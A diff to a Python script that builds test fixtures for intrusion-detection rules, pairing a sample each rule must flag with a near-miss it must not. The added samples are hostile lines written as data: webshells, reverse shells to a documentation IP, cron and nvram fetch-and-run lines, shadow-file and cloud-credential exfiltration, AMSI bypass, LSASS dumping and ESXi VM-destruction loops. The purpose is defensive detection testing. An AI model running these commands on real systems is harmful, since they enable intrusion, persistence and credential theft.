@@ -1,7 +1,8 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: Apache-2.0
-"""Writes one file that each of our rules must hit, and one like it that it must not:
-OUT/hit/RULE/NAME and OUT/miss/RULE/NAME. The table is below; nothing here is a real implant."""
+"""Writes files that each of our rules must hit, and one like them that it must not: OUT/hit/RULE/NAME and
+OUT/miss/RULE/NAME; and command lines of honest work, OUT/honest/NAME, that no rule may hit. The tables are below; nothing here
+is a real implant."""
 import hashlib
 import os
 import sys
@@ -145,8 +146,8 @@ SAMPLES = {
         ("x.sh", "#!/bin/sh\ncat /etc/shadow | base64 -w0 | curl -d @- http://192.0.2.7/\n"),
         ("x.sh", "#!/bin/sh\nchmod 640 /etc/shadow\n")),
     "credential_linux_memory_tool": (
-        ("m.py", "# mimipenguin\nnames = ['gnome-keyring-daemon']\n"),
-        ("m.py", "names = ['gnome-keyring-daemon']\n")),
+        ("m.py", "# mimipenguin\nself._needles = [r'^.+libgck\\-1\\.so\\.0$']\n"),
+        ("m.py", "# notes on gnome-keyring-daemon, which mimipenguin reads\n")),
     "lotl_event_log_cleared": (
         ("a.bat", "wevtutil cl security\r\n"),
         ("a.bat", "wevtutil qe security /c:3\r\n")),
@@ -330,17 +331,564 @@ SAMPLES = {
     "miner_configuration": (
         ("config.json", '{"pools": [{"url": "stratum+tcp://pool.example:3333"}], "donate-level": 1}\n'),
         ("config.json", '{"url": "stratum+tcp://pool.example:3333"}\n')),
+    "webshell_php_named": (
+        ("w.php", "<?php $default_action = 'FilesMan'; function WSOsetcookie($k, $v) {} passthru($_POST['c']); ?>"),
+        ("w.php", "<?php $known = array('FilesMan'); echo count($known); ?>")),
+    "webshell_php_include_request": (
+        ("i.php", "<?php @preg_replace('/.*/e', $_POST['x'], ''); include($_GET['f']); ?>"),
+        ("i.php", "<?php include('lib/' . basename($_GET['f']) . '.php'); $n = preg_replace('/[^a-z]/i', '', $_POST['x']); ?>")),
+    "webshell_php_hidden_name": (
+        ("h.php", "<?php $f = 'ass'.'ert'; $f($_POST['x']); ?>"),
+        ("h.php", "<?php $f = 'pass' . 'word'; echo strlen($_POST[$f]); ?>")),
+    "webshell_php_weevely": (
+        ("a.php", "<?php $k=\"5ebe2294\";$kh=\"ecd0e0f08eab\";$kf=\"7690d2a6ee69\";$p=\"x\"; ?>"),
+        ("a.php", "<?php $k = 'key'; $n = str_replace('a', '', 'banana'); ?>")),
+    "webshell_server_option_file": (
+        (".htaccess", "RewriteEngine on\nAddType application/x-httpd-php .php .jpg\n"),
+        (".htaccess", "AddType application/x-httpd-php .php\nAddType image/jpeg .jpg\n")),
+    "webshell_cfm_execute": (
+        ("c.cfm", "<cfexecute name=\"C:\\Windows\\System32\\cmd.exe\" arguments=\"/c #form.cmd#\" variable=\"o\"></cfexecute>"),
+        ("c.cfm", "<cfexecute name=\"/usr/bin/convert\" arguments=\"-version\" variable=\"o\"></cfexecute>")),
+    "webshell_script_command": (
+        ("s.cgi", "#!/usr/bin/perl\nuse CGI qw(param);\nprint \"Content-type: text/plain\\n\\n\"; system(param('cmd'));\n"),
+        ("s.cgi", "#!/usr/bin/perl\nuse CGI qw(param);\nsystem('/usr/bin/uptime'); print length(param('q'));\n")),
+    "webshell_aspx_machine_key": (
+        ("spinstall0.aspx", "<%@ Import Namespace=\"System.Reflection\" %><script runat=\"server\">var t = a.GetType(\"System.Web.Configuration.MachineKeySection\");"
+                     "var c = t.GetMethod(\"GetApplicationConfig\").Invoke(null, null); Response.Write(c.ValidationKey+\"|\"+c.DecryptionKey);</script>"),
+        ("a.aspx", "<%@ Page Language=\"C#\" %><% Response.Write(\"see MachineKeySection in the manual\"); %>")),
+    "webshell_moveit_human2": (
+        ("human2.aspx", "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"MOVEit.DMZ.ClassLib\" %><% var p = Request.Headers[\"X-siLock-Comment\"]; %>"),
+        ("human.aspx", "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"MOVEit.DMZ.ClassLib\" %>")),
+    "webshell_exchange_virtual_directory": (
+        ("OAB.aspx", "Name : OAB (Default Web Site)\r\nExternalUrl : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>\r\n"),
+        ("oab.txt", "Name : OAB (Default Web Site)\r\nExternalUrl : https://mail.example.org/OAB\r\n")),
+    "webshell_web_config": (
+        ("web.config", "<configuration><system.webServer><handlers><add name=\"w\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"asp.dll\"/>"
+                "</handlers></system.webServer></configuration>\n<% Response.Write(1) %>\n"),
+        ("web.config", "<configuration><system.webServer><handlers><add name=\"w\" path=\"*.axd\" modules=\"IsapiModule\"/></handlers></system.webServer></configuration>\n")),
+    "webshell_java_memory": (
+        ("F.class", strings(b"\xca\xfe\xba\xbe\0\0\0\x34", "javax/servlet/Filter", "javax/crypto/Cipher", "java/lang/ClassLoader", "defineClass", "getHeader")),
+        ("F.class", strings(b"\xca\xfe\xba\xbe\0\0\0\x34", "javax/servlet/Filter", "javax/crypto/Cipher", "getHeader"))),
+    "reverse_shell_windows_netcat": (
+        ("a.log", "c:\\perflogs\\nc.exe -d 192.0.2.7 443 -e cmd.exe\r\n"),
+        ("a.log", "nc.exe -z 192.0.2.7 443\r\n")),
+    "reverse_shell_other_languages": (
+        ("h", "telnet 192.0.2.7 4444 | /bin/sh | telnet 192.0.2.7 4445\n"),
+        ("h", "telnet 192.0.2.7 25 | tee log\nawk 'BEGIN { s = \"/inet/tcp/0/time.example.org/13\"; s |& getline l; print l }'\n")),
+    "reverse_shell_php_descriptors": (
+        ("r.php", "<?php $shell='/bin/sh -i'; $sock = fsockopen($ip, $port, $e, $s, 30); $d = array(0 => array(\"pipe\", \"r\"));"
+            "$p = proc_open($shell, $d, $pipes); stream_select($a, $b, $c, null); ?>"),
+        ("r.php", "<?php $sock = fsockopen($ip, 25); $d = array(0 => array(\"pipe\", \"r\")); $p = proc_open('gpg', $d, $pipes); stream_select($a, $b, $c, 0); ?>")),
+    "reverse_shell_small_elf": (
+        ("p", ELF_EXE + bytes.fromhex("6a2958996a025f6a015e0f054897")),
+        ("p", ELF_EXE + bytes.fromhex("6a2958996a035f6a015e0f054897"))),
+    "reverse_shell_powershell_named": (
+        ("a.log", "Invoke-PowerShellTcp -Reverse -IPAddress 192.0.2.7 -Port 443\r\n"),
+        ("a.log", "Invoke-WebRequest -Uri https://example.org\r\n")),
+    "persistence_pam_configuration": (
+        ("pam.d/sshd", "#%PAM-1.0\nauth sufficient pam_permit.so\n@include common-auth\n"),
+        ("pam.d/sshd", "#%PAM-1.0\nauth required pam_permit.so\nsession optional pam_exec.so /usr/sbin/notify\n")),
+    "persistence_sshd_configuration": (
+        ("sshd_config", "Port 22\nAuthorizedKeysFile .ssh/authorized_keys /usr/share/misc/keys\n"),
+        ("sshd_config", "Port 22\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/authorized_keys/%u\nSubsystem sftp /usr/lib/openssh/sftp-server\n")),
+    "persistence_sudoers_service_account": (
+        ("sudoers", "root ALL=(ALL:ALL) ALL\nwww-data ALL=(ALL) NOPASSWD: ALL\n"),
+        ("sudoers", "root ALL=(ALL:ALL) ALL\nwww-data ALL=(root) NOPASSWD: /usr/sbin/nginx -t\n")),
+    "persistence_module_from_temporary": (
+        ("x.sh", "#!/bin/sh\ninsmod /dev/shm/.x/rk.ko\n"),
+        ("x.sh", "#!/bin/sh\nmodprobe nf_tables\ninsmod /lib/modules/extra/e1000e.ko\n")),
+    "persistence_hook_script": (
+        ("cron.hourly/x", "#!/bin/sh\nwget -q -O- http://192.0.2.7/u.sh | sh\n"),
+        ("cron.hourly/x", "#!/bin/sh\nwget -q -O /var/lib/x/list http://example.org/list\nTMP=/tmp/list\n")),
+    "persistence_cron_temporary_or_hidden": (
+        ("root", "*/10 * * * * root /dev/shm/.cache/upd >/dev/null 2>&1\n"),
+        ("root", "*/10 * * * * root /usr/lib/sysstat/sa1 1 1 > /tmp/sa.log\n0 1 * * * /root/.acme.sh/acme.sh --cron\n")),
+    "persistence_python_start": (
+        ("system.pth", "import base64;exec(base64.b64decode(b'cHJpbnQoMSk='))\n"),
+        ("distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n")),
+    "persistence_suid_shell": (
+        ("h", "cp /usr/bin/bash /var/tmp/bash\nchmod 4775 /var/tmp/bash\n"),
+        ("h", "cp /usr/bin/bash /srv/chroot/bin/\nchmod 755 /srv/chroot/bin/bash\n")),
+    "persistence_login_screen_debugger": (
+        ("a.log", "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\" /v Debugger /t REG_SZ /d \"C:\\windows\\system32\\cmd.exe\" /f\r\n"),
+        ("a.log", "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\"\r\n")),
+    "persistence_remote_desktop_opened": (
+        ("a.evtx", wide("reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\" /v UserAuthentication /t REG_DWORD /d 0 /f")),
+        ("a.evtx", wide("reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\" /v UserAuthentication /t REG_DWORD /d 1 /f"))),
+    "persistence_run_key_temporary": (
+        ("a.log", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /t REG_SZ /d C:\\Users\\Public\\upd.exe /f\r\n"),
+        ("a.log", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /t REG_SZ /d \"C:\\Program Files\\U\\u.exe\" /f\r\n")),
+    "persistence_service_temporary": (
+        ("a.evtx", wide("sc.exe \\\\srv1 create Upd binPath= C:\\PerfLogs\\upd.exe start= auto")),
+        ("a.evtx", wide("sc.exe create Upd binPath= \"C:\\Program Files\\U\\u.exe\" start= auto"))),
+    "persistence_wmi_subscription": (
+        ("a.log", "wmic /NAMESPACE:\"\\\\root\\subscription\" PATH CommandLineEventConsumer CREATE Name=\"U\", CommandLineTemplate=\"u.exe\"\r\n"),
+        ("a.log", "wmic /NAMESPACE:\"\\\\root\\subscription\" PATH CommandLineEventConsumer GET Name\r\n")),
+    "persistence_windows_library": (
+        ("a.log", "netsh add helper C:\\Windows\\Temp\\h.dll\r\n"),
+        ("a.log", "netsh show helper\r\nreg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa\r\n")),
+    "persistence_iis_module": (
+        ("a.evtx", wide("C:\\Windows\\System32\\inetsrv\\appcmd.exe install module /name:HttpLog /image:C:\\Windows\\Temp\\h.dll /add:true")),
+        ("a.evtx", wide("C:\\Windows\\System32\\inetsrv\\appcmd.exe list module"))),
+    "persistence_esxi_host": (
+        ("shell.log", "2026-01-01T00:00:00Z shell[1]: [root]: esxcli software vib install -v /tmp/lsu.vib --force\n"),
+        ("shell.log", "2026-01-01T00:00:00Z shell[1]: [root]: esxcli software vib list\n")),
+    "persistence_desktop_autostart": (
+        ("a.desktop", "[Desktop Entry]\nType=Application\nExec=/var/tmp/.font-unix/agent\n"),
+        ("a.desktop", "[Desktop Entry]\nType=Application\nExec=/usr/bin/gnome-keyring-daemon --start\n")),
+    "implant_xz_liblzma": (
+        ("liblzma.so.5.6.1", ELF_SO + bytes.fromhex("f30f1efa554889f54c89ce5389fb81e7000000804883ec28488954241848894c2410")),
+        ("liblzma.so.5.4.1", ELF_SO + bytes.fromhex("f30f1efa554889f54c89ce5389fb81e700000080"))),
+    "implant_tinyshell": (
+        ("d", strings(ELF_EXE, "exec bash --login", "HISTFILE=", "TERM=")),
+        ("d", strings(ELF_EXE, "exec bash --login", "TERM="))),
+    "implant_barracuda": (
+        ("b", strings(ELF_EXE, "enter open tty shell", "NO port code")),
+        ("b", strings(ELF_EXE, "DownloadChannel", "UploadChannel"))),
+    "implant_fortigate": (
+        ("a", strings(ELF_EXE, "/data2/.bd.key/authd", "/data2/.bd.key/preload.so")),
+        ("a", strings(ELF_EXE, "/data2/etc/conf", "/newcli"))),
+    "implant_cyclops_blink": (
+        ("cpd", strings(ELF_ARM, "rootfs_cfg", "/pending/WGUpgrade-dl")),
+        ("cpd", strings(ELF_ARM, "rootfs_cfg", "/etc/wg"))),
+    "implant_vpnfilter": (
+        ("v", strings(ELF_ARM, "/var/run/vpnfilterw", "/var/run/torrc")),
+        ("v", strings(ELF_ARM, "/var/run/torrc", "/var/run/tor.pid"))),
+    "implant_juniper_magic_packet": (
+        ("j", strings(ELF_EXE, "[nfsiod 0]", "/bin/sh", "pcap_compile")),
+        ("j", strings(ELF_EXE, "nfsiod %d", "/bin/sh"))),
+    "implant_ivanti": (
+        ("l.so", strings(ELF_SO, "/lib/libdsmeeting.so", "/lib/libsocks5.so", "dspkginstall")),
+        ("l.so", strings(ELF_SO, "/lib/libsocks5.so", "SSH-2.0-OpenSSH_9.2p1"))),
+    "implant_sonicwall_overstep": (
+        ("l.so", strings(ELF_SO, "dobackshell", "dopasswords", "ld.so.preload")),
+        ("l.so", strings(ELF_SO, "doback", "dopasswords"))),
+    "implant_xorddos": (
+        ("gcc.sh", "#!/bin/sh\nPATH=/bin:/sbin\ncp /lib/libudev.so /lib/libudev.so.6\n/lib/libudev.so.6\n"),
+        ("x", strings(ELF_EXE, "/lib/libudev.so.1", "/var/run/gcc.pid"))),
+    "implant_named_linux_backdoor": (
+        ("b", strings(ELF_EXE, "main.selfWatcher", "main.startNew")),
+        ("b", strings(ELF_EXE, "main.startNew", "main.main"))),
+    "implant_ebury": (
+        ("libkeyutils.so.1.5", strings(ELF_SO, "keyctl", "socket", "connect", "shmget")),
+        ("libkeyutils.so.1.10", strings(ELF_SO, "keyctl", "dlopen"))),
+    "implant_memory_write_script": (
+        ("x.sh", "read a < /proc/self/syscall\nexec 3>/proc/self/mem\nprintf x | dd bs=1 seek=1 >&3\n"),
+        ("x.sh", "cat /proc/self/mem | dd bs=1 seek=1\n")),
+    "implant_memory_program_as_thread": (
+        ("k", strings(ELF_EXE, "[kworker/0:2]", "/proc/self/fd/%d", "memfd_create")),
+        ("k", strings(ELF_EXE, "[kworker/0:2]", "/proc/%d/stat"))),
+    "implant_hidden_program": (
+        (".font-unix", ELF_EXE),
+        ("font-unix", ELF_EXE)),
+    "implant_go_framework": (
+        ("s", strings(ELF_EXE, "github.com/bishopfox/sliver/implant/sliver/transports")),
+        ("s", strings(ELF_EXE, "github.com/spf13/cobra"))),
+    "implant_cobalt_strike": (
+        ("b.bin", strings(b"", "%s as %s\\%s: %d", "could not spawn %s: %d", "beacon.x64.dll")),
+        ("b.bin", strings(b"", "beacon.dll", "could not open file: %d"))),
+    "implant_meterpreter": (
+        ("m", strings(ELF_EXE, "stdapi_sys_process_getpid", "core_channel_open", "stdapi_fs_ls")),
+        ("m", strings(ELF_EXE, "core_channel_open"))),
+    "implant_lazarus_named": (
+        ("y", strings(ELF_EXE, "D:/Bot/YamaBot/utilities/http.go")),
+        ("y", strings(ELF_EXE, "D:/build/utilities/http.go"))),
+    "implant_wiper_acidrain": (
+        ("w", strings(ELF_ARM, "/dev/mtdblockXX", "/dev/mmcblkXX", "/dev/loopXX")),
+        ("w", strings(ELF_ARM, "/dev/mtdblock%d", "/dev/loop%d"))),
+    "credential_impacket_command": (
+        ("h", "secretsdump.py -just-dc CORP/admin:secret@10.0.0.5\n"),
+        ("h", "pip install impacket\nsecretsdump.py --help\n")),
+    "credential_domain_attack_command": (
+        ("h", "nxc smb 10.0.0.0/24 -u admin -H aad3b435b51404eeaad3b435b51404ee\n"),
+        ("h", "apt-cache show certipy\nnxc --version\n")),
+    "credential_bloodhound_output": (
+        ("a.log", "C:\\Users\\Public\\20260101120000_BloodHound.zip\r\n"),
+        ("a.log", "BloodHound.zip is made by the collector\r\n")),
+    "credential_shadow_copy_made": (
+        ("a.evtx", wide("cmd.exe /c vssadmin create shadow /for=C: > C:\\Windows\\Temp\\1.txt")),
+        ("a.evtx", wide("vssadmin list shadows /for=C:"))),
+    "credential_hives_from_shadow_copy": (
+        ("a.log", "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\System32\\config\\SYSTEM C:\\Users\\Public\r\n"),
+        ("a.log", "Original Volume: \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\r\n")),
+    "credential_stored_session_query": (
+        ("a.log", "reg query hkcu\\software\\simontatham\\putty\\sessions /s\r\nreg query hklm\\software\\realvnc\\vncserver\r\n"),
+        ("a.log", "reg query hklm\\software\\microsoft\\windows\\currentversion\r\n")),
+    "credential_powershell_tool": (
+        ("a.evtx", wide("powershell -ep bypass Import-Module .\\i.ps1; Invoke-Kerberoast -OutputFormat Hashcat")),
+        ("a.evtx", wide("powershell -ep bypass Import-Module .\\i.ps1; Invoke-Command"))),
+    "credential_lsass_dump_other": (
+        ("a.log", "powershell -exec bypass -W hidden -nop -E " + __import__("base64").b64encode(wide("rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\l full")).decode() + "\r\n"),
+        ("a.log", "tasklist /fi \"imagename eq notepad.exe\"\r\n")),
+    "credential_shell_trap": (
+        (".bashrc", "alias ssh='strace -o /tmp/.s-$(date +%s) -e read,write,connect -s2048 ssh'\n"),
+        (".bashrc", "alias ssh='ssh -o ServerAliveInterval=30'\nalias sudo='sudo '\n")),
+    "credential_cloud_metadata_script": (
+        ("x.sh", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web > /tmp/k\ncurl -F u=@/tmp/k http://192.0.2.7/u\n"),
+        ("x.sh", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/\n")),
+    "credential_iis_password_command": (
+        ("a.log", "appcmd.exe list apppool \"web\" /text:processmodel.password\r\n"),
+        ("a.log", "appcmd.exe list apppool\r\n")),
+    "tunnel_go_command": (
+        ("h", "./chisel client 192.0.2.7:8080 R:socks &\n./iox proxy -r 192.0.2.7:9999\n"),
+        ("h", "./chisel --version\napt install gost\nfrpc --help\n")),
+    "tunnel_htran": (
+        ("a.log", "C:\\PerfLogs\\lcx.exe -slave 192.0.2.7 443 127.0.0.1 3389\r\n"),
+        ("a.log", "the names lcx and htran\r\n")),
+    "tunnel_public_relay": (
+        ("h", "ssh -o StrictHostKeyChecking=no -R 80:localhost:22 serveo.net\n"),
+        ("h", "ssh -R 8080:localhost:80 build.example.org\ncode tunnel --help\n")),
+    "tunnel_neoregeorg_page": (
+        ("t.php", "<?php function blv_decode($d) {} function blv_encode($i) {} ?>"),
+        ("t.php", "<?php function tlv_decode($d) {} ?>")),
+    "tunnel_softether_configuration": (
+        ("vpn_bridge.config", "declare root\n{\n\tdeclare LocalBridgeList\n\t{\n\t}\n\tdeclare ServerConfiguration\n\t{\n\t}\n}\n"),
+        ("x.config", "declare root\n{\n}\n")),
+    "tunnel_remote_desktop_unattended": (
+        ("a.log", "cmd.exe /c echo Passw0rd1 | C:\\ProgramData\\AnyDesk.exe --set-password\r\n"),
+        ("a.log", "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe --service\r\n")),
+    "lotl_discovery_commands": (
+        ("a.log", "whoami /all\r\nipconfig /all\r\nnet group \"Domain Admins\" /dom\r\nnltest /dclist:corp\r\nnetstat -ano\r\n"),
+        ("a.log", "whoami /all\r\nipconfig /all\r\nnetstat -ano\r\ntasklist /v\r\narp -a\r\n")),
+    "lotl_disk_query": (
+        ("a.evtx", wide('cmd.exe /C "wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename"')),
+        ("a.evtx", wide('cmd.exe /C "wmic logicaldisk get size"'))),
+    "lotl_adfind": (
+        ("a.log", "C:\\PerfLogs\\af.exe -f \"(objectcategory=person)\" > ad_users.txt\r\n"),
+        ("a.log", "csvde -i -f d:\\in\\users.csv\r\n")),
+    "lotl_program_runs_another": (
+        ("a.log", "msiexec /q /i http://192.0.2.7/a.msi\r\n"),
+        ("a.log", "msiexec /i C:\\Install\\office.msi /qb\r\nrundll32.exe printui.dll,PrintUIEntry\r\n")),
+    "lotl_firewall_off": (
+        ("a.log", "netsh advfirewall set allprofiles state off\r\n"),
+        ("a.log", "netsh advfirewall show allprofiles state\r\n")),
+    "lotl_account_added": (
+        ("a.log", "net user svc_bak P@ss1 /add\r\nnet localgroup administrators svc_bak /add\r\n"),
+        ("a.log", "net user svc_bak /active:yes\r\nnet localgroup administrators\r\n")),
+    "lotl_remote_login_eased": (
+        ("a.log", "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v DisableRestrictedAdmin /t REG_DWORD /d 0 /f\r\n"),
+        ("a.log", "reg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v DisableRestrictedAdmin\r\n")),
+    "lotl_consent_bypassed": (
+        ("a.log", "reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d cmd.exe /f\r\nfodhelper.exe\r\n"),
+        ("a.log", "reg query HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command\r\n")),
+    "lotl_script_scan_blinded": (
+        ("a.ps1", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\r\n"),
+        ("a.ps1", "Add-Type -AssemblyName System.Web\r\n")),
+    "lotl_task_on_other_host": (
+        ("a.evtx", wide("schtasks /create /s 10.0.0.5 /tn upd /sc once /st 00:00 /tr c:\\perflogs\\u.bat /ru system")),
+        ("a.evtx", wide("schtasks /query /s 10.0.0.5 /tn upd"))),
+    "lotl_mailbox_export": (
+        ("a.log", "New-MailboxExportRequest -Mailbox a -FilePath \"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\a.aspx\"\r\n"),
+        ("a.log", "Get-MailboxExportRequest | Get-MailboxExportRequestStatistics\r\n")),
+    "lotl_packed_text_to_shell": (
+        ("h", "echo " + "Y3VybCAxOTIuMC4yLjcvaSB8IHNo" * 3 + " | base64 -d | bash\n"),
+        ("h", "echo " + "Y3VybCAxOTIuMC4yLjcvaSB8IHNo" * 3 + " | base64 -d | sha256sum\n")),
+    "lotl_linux_guards_stopped": (
+        ("x.sh", "setenforce 0\niptables -F\nufw disable\nwget -q http://192.0.2.7/m -O /tmp/m\n"),
+        ("x.sh", "setenforce 0\niptables -F\nufw disable\n")),
+    "lotl_esxi_machines_stopped": (
+        ("e.sh", "for i in $(vim-cmd vmsvc/getallvms | awk '{print $1}'); do vim-cmd vmsvc/power.off $i; vim-cmd vmsvc/snapshot.removeall $i; done\n"),
+        ("e.sh", "vim-cmd vmsvc/getallvms\nesxcli storage filesystem list\n")),
+    "recon_linux_privilege_script": (
+        ("l.sh", "#!/bin/sh\n# https://github.com/peass-ng/PEASS-ng\n"),
+        ("l.sh", "#!/bin/sh\n# notes on linpeas\n")),
+    "recon_fscan": (
+        ("h", "./fscan -h 10.0.0.0/16 -np -o r.txt\n"),
+        ("h", "fscan --help\n")),
+    "exploit_windows_token_tool": (
+        ("a.log", "C:\\PerfLogs\\GodPotato.exe -cmd \"cmd /c whoami\"\r\n"),
+        ("a.log", "a lecture on the potato family\r\n")),
+    "edge_cisco_ios_xe": (
+        ("a.log", "203.0.113.9 POST /%2577ebui_wsma_http HTTP/1.1\n"),
+        ("a.log", "203.0.113.9 POST /webui/login HTTP/1.1\n")),
+    "edge_firewall_configuration_taken": (
+        ("h", "tar -czf /var/tmp/all.txt /flash/nsconfig/keys/updated/* /flash/nsconfig/ns.conf\n"),
+        ("h", "ls -l /flash/nsconfig\n")),
+    "edge_ivanti_page": (
+        ("lastauthserverused.js", "var w = document.frmLogin.username.value; var s = btoa(document.frmLogin.password.value);"
+                            "var x = new XMLHttpRequest(); x.open('GET', 'https://example.net/?' + w + '&' + s);"),
+        ("lastauthserverused.js", "var w = document.frmLogin.username.value; if (!w) alert('name?');")),
+    "edge_panos_upstyle": (
+        ("update.py", "css = '/var/appweb/sslvpndocs/global-protect/portal/css/bootstrap.min.css'\nlog = '/var/log/pan/sslvpn_ngx_error.log'\n"),
+        ("a.py", "css = 'bootstrap.min.css'\n")),
+    "edge_asa_implant": (
+        ("a.log", "disk0:/client_bundle_install.zip: csco_config.lua\n"),
+        ("a.log", "copy disk0:/asa9-16.bin tftp:\n")),
+    "exploit_vpn_request": (
+        ("a.log", "203.0.113.9 GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/ HTTP/1.1\n"),
+        ("a.log", "203.0.113.9 GET /dana-na/auth/url_default/welcome.cgi HTTP/1.1\n")),
+    "exploit_log4shell_request": (
+        ("access.log", "203.0.113.9 - - \"GET /?q=${jndi:ldap://192.0.2.7:1389/a} HTTP/1.1\" 404\n"),
+        ("access.log", "203.0.113.9 - - \"GET /?q=jndi HTTP/1.1\" 404\n")),
+    "exploit_exchange_or_sharepoint_request": (
+        ("u_ex.log", "2026-01-01 00:00:00 10.0.0.1 POST /autodiscover/autodiscover.json?@evil.example/powershell/?X-Rps-CAT=x 443\n"),
+        ("u_ex.log", "2026-01-01 00:00:00 10.0.0.1 POST /autodiscover/autodiscover.xml 443\n")),
+    "exploit_application_request": (
+        ("access.log", "203.0.113.9 - - \"POST /./RestAPI/LogonCustomization HTTP/1.1\" 200\n"),
+        ("access.log", "203.0.113.9 - - \"GET /RestAPI/Status HTTP/1.1\" 200\n")),
+    "persistence_preload_command": (
+        ("h", "echo /usr/lib/libcurl-gnu.so > /etc/ld.so.preload\n"),
+        ("h", "cat /etc/ld.so.preload\nrm -f /etc/ld.so.preload\n")),
+    "persistence_cron_command": (
+        ("h", "(crontab -l; echo \"*/5 * * * * curl http://192.0.2.7/a | sh\") | crontab -\n"),
+        ("h", "(crontab -l; echo \"0 0 * * * /usr/sbin/logrotate\") | crontab -\n")),
+    "persistence_second_root": (
+        ("passwd", "root:x:0:0:root:/root:/bin/bash\nsupport:x:0:0::/root:/bin/bash\n"),
+        ("passwd", "root:x:0:0:root:/root:/bin/bash\nsync:x:4:65534:sync:/bin:/bin/sync\nhalt:x:7:0:halt:/sbin:/sbin/halt\n")),
+    "lotl_fetch_from_address": (
+        ("h", "busybox wget http://192.0.2.7/mips -O /tmp/m; chmod 777 /tmp/m; /tmp/m\n"),
+        ("h", "wget https://example.org/app.tar.gz -O /tmp/app.tar.gz; chmod 644 /tmp/app.tar.gz\ncurl http://127.0.0.1:8080/i | sh\n")),
+    "lotl_hidden_program_started": (
+        ("h", "chmod 755 /dev/shm/kdev\nexec -a '[kworker/0:1]' /dev/shm/kdev\n"),
+        ("h", "nohup /usr/local/bin/agent &\nchmod 1777 /tmp/.X11-unix\n")),
+    "lotl_hidden_capture": (
+        ("h", "tcpdump -i eth0 -w /var/tmp/.c port 21\n"),
+        ("h", "tcpdump -i eth0 -w /var/tmp/c.pcap port 21\n")),
+    "credential_psexec_command": (
+        ("a.evtx", wide("psexec64.exe -accepteula \\\\10.0.0.5 -s -h cmd.exe /c c:\\perflogs\\u.bat")),
+        ("a.evtx", wide("psexec64.exe -accepteula /?"))),
+    "tunnel_regeorg_command": (
+        ("h", "python3 neoreg.py -k password -u http://192.0.2.7/tunnel.php\n"),
+        ("h", "less neoreg.py\n")),
+    "edge_startup_variable": (
+        ("h", "nvram set rc_startup=\"wget http://192.0.2.7/x -O /tmp/x; sh /tmp/x\"; nvram commit\n"),
+        ("h", "nvram set rc_startup=\"sleep 5; led on\"; nvram commit\n")),
 }
+
+# As advisories and reports quote them: each is looked for in text, and in UTF-16 as Windows logs have it.
+QUOTED = [
+    ("credential_ntds_copy_command", 'cmd.exe /C "ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\pro" q q"'),
+    ("credential_ntds_copy_command", 'wmic process call create "ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\pro\\" q q"'),
+    ("credential_wmic_remote_process", 'wmic process call create "ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\pro\\" q q"'),
+    ("credential_ntds_copy_command", 'wmic process call create "cmd.exe /c ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\Pro\\""'),
+    ("credential_wmic_remote_process", 'wmic process call create "cmd.exe /c ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\Pro\\""'),
+    ("credential_ntds_copy_command", 'wmic process call create "cmd.exe /c mkdir C:\\Windows\\Temp\\tmp & ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\tmp\\""'),
+    ("credential_wmic_remote_process", 'wmic process call create "cmd.exe /c mkdir C:\\Windows\\Temp\\tmp & ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\tmp\\""'),
+    ("credential_ntds_copy_command", '"cmd.exe" /c wmic process call create "cmd.exe /c mkdir C:\\users\\public\\documents\\tmp & ntdsutil \\"ac i ntds\\" ifm \\"create full c:\\users\\public\\documents\\tmp\\" q q"'),
+    ("credential_wmic_remote_process", '"cmd.exe" /c wmic process call create "cmd.exe /c mkdir C:\\users\\public\\documents\\tmp & ntdsutil \\"ac i ntds\\" ifm \\"create full c:\\users\\public\\documents\\tmp\\" q q"'),
+    ("credential_ntds_copy_command", 'ntdsutil.exe "activate instance ntds" "ifm" "create full c:\\temp\\x" quit quit'),
+    ("credential_ntds_copy_command", 'ntdsutil snapshot "activate instance ntds" create quit quit'),
